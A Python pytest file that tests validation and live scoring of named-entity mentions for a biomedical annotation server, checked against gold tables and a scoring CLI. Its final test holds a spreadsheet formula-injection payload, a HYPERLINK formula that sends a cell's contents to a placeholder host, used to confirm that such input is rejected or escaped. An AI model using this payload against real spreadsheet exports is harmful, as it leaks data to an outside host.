"""NER: mentions validated, scored as they arrive, and written for `scoring ner`."""

import json
import random
from collections.abc import Sequence
from importlib.resources import files
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from annotators.baselines.mentions import mentions
from annotators.baselines.proteins import SHIPPED_NAMES, read_proteins
from annotators.matching import Dictionary
from metaserver.base.errors import InputError
from metaserver.base.records import ArticleId, ServerName
from metaserver.boards.scoreboard import GoldMark, Scoreboard, ScoredTask
from metaserver.corpus import read_articles
from metaserver.exchange.wire.contract import Report, Severity
from metaserver.tasks.ner import NER
from metaserver.uniprot.vocabulary import FormatVocabulary
from scoring.cli import main as scoring
from scoring.semeval_files import read_ner_gold, read_ner_run
from scoring.semeval_ner import NerScorecard, evaluate
from tests.fakes.vocabulary import FakeVocabulary

DEMO = Path(str(files("metaserver.cli.demo_data")))


def mention(offset: Any, words: Any, kind: Any = "protein", **others: Any) -> dict[str, Any]:
    return {"offset": offset, "mention": words, "type": kind, **others}


def checked(*sent: Any) -> tuple[Any, Report]:
    report = Report()
    return NER.check(list(sent), report, FakeVocabulary.unasked()), report


def messages(report: Report) -> list[str]:
    return [str(problem) for problem in report.problems]


class TestChecking:
    def test_mentions_are_kept_by_place(self) -> None:
        payload, report = checked(
            mention(20, "p53", confidence=0.5, section="Results"),
            mention(0, "MDM2", length=4),
            mention(20, "p53", "gene"),
        )
        assert payload == [[0, "MDM2", "protein"], [20, "p53", "gene"], [20, "p53", "protein"]]
        assert (report.hits_sent, report.problem_count) == (3, 0)
        assert NER.count(payload) == 3

    def test_every_invalid_value_drops_its_mention(self) -> None:
        payload, report = checked(
            mention(-1, "p53"), mention(2**63 - 1, "p53"), mention(3, ""),
            mention(3, "p53", "a\tb"), mention(3, "p53", " "), mention(3, "β-catenin", length=10),
            mention(9, "p53"),
        )  # fmt: skip
        assert payload == [[9, "p53", "protein"]]
        assert report.hits_sent == 7
        assert messages(report) == [
            "mentions[0].offset: expected 0 to 100000000, got -1",
            "mentions[1].offset: expected 0 to 100000000, got 9223372036854775807",
            "mentions[2].mention: expected one character or more",
            "mentions[3].type: expected a word, got 'a\\tb'",
            "mentions[4].type: expected a word, got ' '",
            "mentions[5].length: got 10, but the mention has 9 code points",
        ]

    def test_a_repeated_place_and_type_is_dropped(self) -> None:
        payload, report = checked(mention(5, "p53"), mention(9, "p21"), mention(5, "P53"))
        assert payload == [[5, "p53", "protein"], [9, "p21", "protein"]]
        assert messages(report) == ["mentions[2]: the place and type of mentions[0] again"]

    @pytest.mark.parametrize(
        ("sent", "message"),
        [
            ({"offset": 3, "mention": "p53"}, "mentions[0].type: missing; expected string"),
            (mention("here", "p53"), "mentions[0].offset: expected int, got string 'here'"),
            (mention(3, 5.5), "mentions[0].mention: expected string, got double 5.5"),
            (mention(3, "p53", length="x"), "mentions[0].length: expected int, got string 'x'"),
            ("p53", "mentions[0]: expected struct, got string 'p53'"),
        ],
    )
    def test_a_mention_of_another_type_makes_the_member_unusable(self, sent, message):
        payload, report = checked(sent, mention(9, "p21"))
        assert payload is None
        assert (report.hits_sent, messages(report)) == (2, [message])

    def test_mentions_that_are_no_array(self) -> None:
        report = Report()
        assert NER.check({}, report, FakeVocabulary.unasked()) is None
        assert messages(report) == ["mentions: expected array, got struct"]

    def test_members_that_are_not_scored_cost_nothing(self) -> None:
        payload, report = checked(mention(3, "p53", section=5.5, confidence="high"))
        assert payload == [[3, "p53", "protein"]]
        assert report.count(Severity.NOTE) == report.problem_count == 2


class TestNerScoring:
    @pytest.fixture
    def gold(self, tmp_path: Path) -> Any:
        path = tmp_path / "gold.tsv"
        path.write_text(
            "1\t0-3\tMDM2\tprotein\n1\t11-13\tp53\tprotein\n2\t5-8\tTP53\tgene\n3\n"
        )  # fmt: skip
        return NER.read_gold(path)

    def test_a_run_is_scored_as_it_lands(self, gold: Any) -> None:
        scorer = NER.scorer(gold)
        scorer.put(ArticleId("1"), [[0, "MDM2", "gene"], [11, "p53", "protein"]])
        scorer.put(ArticleId("elsewhere"), [[0, "MDM2", "protein"]])
        score = scorer.score()
        assert (score.articles_scored, score.articles_in_gold) == (1, 3)
        assert score.values == {
            "cor": 1,
            "inc": 1,
            "par": 0,
            "mis": 1,  # article 2 is not answered
            "spu": 0,
            "strict_precision": 1 / 2,
            "strict_recall": 1 / 3,
            "strict_f": pytest.approx(2 / 5),
            "exact_f": pytest.approx(4 / 5),
            "partial_f": pytest.approx(4 / 5),
            "type_f": pytest.approx(2 / 5),
        }
        assert score.detail["per_type"]["gene"]["strict"]["spu"] == 1
        scorer.put(ArticleId("3"), [[0, "of", "protein"]])
        scorer.put(ArticleId("2"), [[4, "TP53", "gene"]])
        values = scorer.score().values
        assert [values[key] for key in ("inc", "par", "mis", "spu")] == [2, 1, 0, 1]
        scorer.put(ArticleId("3"), [])
        assert scorer.score().values["spu"] == 0

    def test_types_without_a_score_of_their_own_are_not_counted_one_by_one(self, gold: Any) -> None:
        sent = [[at, "MDM2", f"type {at}"] for at in range(20_000)]
        prepared = NER.scorer(gold).prepare(ArticleId("1"), sent)
        assert set(prepared.by_type) == {"protein"}
        scorer = NER.scorer(gold)
        scorer.keep(ArticleId("1"), prepared)
        values = scorer.score().values
        assert (values["inc"], values["spu"]) == (2, 20_000 - 2)

    def test_the_columns_are_the_values(self, gold: Any) -> None:
        values = NER.scorer(gold).score().values
        assert tuple(values) == tuple(column.key for column in NER.columns)
        assert set(NER.order) <= set(values)
        assert all(column.help for column in NER.columns)

    def test_two_runs_are_tested_as_by_the_command(self, gold: Any, tmp_path, capsys) -> None:
        runs = {
            "good": {"1": [[0, "MDM2", "protein"], [11, "p53", "protein"]], "3": []},
            "poor": {"1": [[0, "MDM2", "protein"]], "2": [[0, "x", "gene"]]},
        }
        cards = []
        for name, answers in runs.items():
            scorer = NER.scorer(gold)
            for article, payload in answers.items():
                scorer.put(ArticleId(article), payload)
            cards.append(scorer.score().card)
            (tmp_path / name).write_text("".join(NER.result_lines(answers.items())))  # type: ignore[arg-type]
        pair = NER.paired(gold, *cards, "strict_f")
        files = [str(tmp_path / name) for name in ("gold.tsv", *runs)]
        assert scoring(["ner", "--gold", files[0], "--run", *files[1:], "--tests", "--json"]) == 0
        strict = json.loads(capsys.readouterr().out)[0]
        told = {key: getattr(pair, key) for key in ("difference", "low", "high", "p")}
        assert told == {key: strict[key] for key in told}
        articles = [(one.article, one.first, one.second) for one in pair.pairs]
        assert articles == [("1", 1.0, pytest.approx(2 / 3)), ("2", 0.0, 0.0)]  # 3 has no mention

    def test_no_article_no_measure(self, gold: Any) -> None:
        score = NER.scorer(gold).score()
        assert (score.values["mis"], score.values["strict_f"]) == (3, None)

    def test_the_signature_names_the_gold_by_its_version(self, gold: Any) -> None:
        task = ScoredTask(plugin=NER, gold=gold, release="r", mark=GoldMark(2, "c0ffee"))
        board = Scoreboard([task]).board(NER.name)
        assert board.signature.startswith("NER|gold:2|articles:all|version:")
        assert board.signature.endswith("|release:r")
        assert board.gold == "c0ffee"


def test_a_bad_gold_table_is_reported_in_one_line(tmp_path: Path) -> None:
    path = tmp_path / "gold.tsv"
    path.write_text("1\t0-3\tMDM2\tprotein\n1\t11-15\tp53\tprotein\n1\t2\n")
    with pytest.raises(InputError) as caught:
        NER.read_gold(path)
    assert str(caught.value) == (
        f"{path}:2: column 3: text of 3 characters; expected 5 by its offsets (and 1 more)"
    )


ARTICLES = st.sampled_from("abcx")
PLACES = st.tuples(st.integers(0, 30), st.integers(1, 6), st.sampled_from(["drug", "gene", "new"]))
RUNS = st.dictionaries(ARTICLES, st.lists(PLACES, max_size=8, unique=True))


def by_file(folder: Path, answers: Sequence[tuple[str, Any]]) -> NerScorecard:
    """Score a run as `scoring ner` does: gold table and result file."""
    result = folder / "run.tsv"
    result.write_text("".join(NER.result_lines((ArticleId(a), hits) for a, hits in answers)))
    gold = read_ner_gold(folder / "gold.tsv")
    run = read_ner_run(result, gold)
    return evaluate(gold.mentions, run, article_of={name: name for name in gold.sentences})


@given(gold=RUNS, run=RUNS, seed=st.integers(0, 9))
def test_live_scores_are_those_of_the_result_file(tmp_path_factory, gold, run, seed):
    folder = tmp_path_factory.mktemp("ner")
    lines = [
        f"{article}\t{at}-{at + size - 1}\t{'n' * size}\t{kind}\n"
        for article, places in gold.items()
        for at, size, kind in places
    ]
    (folder / "gold.tsv").write_text("".join([*lines, "c\n"]))
    answers = [
        (article, NER.check([mention(at, "n" * size, kind) for at, size, kind in places],
                            Report(), FakeVocabulary.unasked()))
        for article, places in run.items()
    ]  # fmt: skip
    scorer = NER.scorer(NER.read_gold(folder / "gold.tsv"))
    for article, payload in random.Random(seed).sample(answers * 2, 2 * len(answers)):
        scorer.put(ArticleId(article), payload)
    detail = scorer.score().detail
    expected = by_file(folder, answers).to_dict()
    assert {key: detail[key] for key in expected} == expected


class TestTheDemo:
    def test_the_gold_mentions_are_at_their_offsets(self) -> None:
        texts = {article.id: article.text for article in read_articles([DEMO / "articles"])}
        lines = (DEMO / "gold_ner.tsv").read_text("utf-8").splitlines()
        for line in lines:
            article, offsets, words, _ = line.split("\t")
            first, last = map(int, offsets.split("-"))
            assert texts[ArticleId(article)][first : last + 1] == words
        assert {line.split("\t")[0] for line in lines} == set(texts)

    def test_the_baseline_finds_most_of_it(self) -> None:
        known = Dictionary(read_proteins(SHIPPED_NAMES))
        board = Scoreboard(
            [ScoredTask(plugin=NER, gold=NER.read_gold(DEMO / "gold_ner.tsv"), release="r")]
        )
        for article in read_articles([DEMO / "articles"]):
            payload, report = checked(*mentions(article.text, known.find(article.text)))
            assert report.problem_count == 0
            board.put(ServerName("ner"), article.id, {NER.name: payload})
        [row] = board.board(NER.name).rows
        assert row.articles_scored == 32
        assert 0.7 < (row.values["strict_f"] or 0) < (row.values["exact_f"] or 0) < 1


def test_a_servers_words_are_no_formula_in_a_result_file() -> None:
    report, attack = Report(), '=HYPERLINK("http://x/?"&A1,"see")'
    sent = [
        {"offset": 0, "mention": "=1+1", "type": "gene"},
        {"offset": 9, "mention": "p53", "type": attack},
    ]
    payload = NER.check(sent, report, FormatVocabulary())
    assert payload == [[0, "=1+1", "gene"]]
    assert "expected a word" in report.problems[0].message
    assert list(NER.result_lines([("a1", payload)])) == ["a1\t0-3\t'=1+1\tgene\n"]
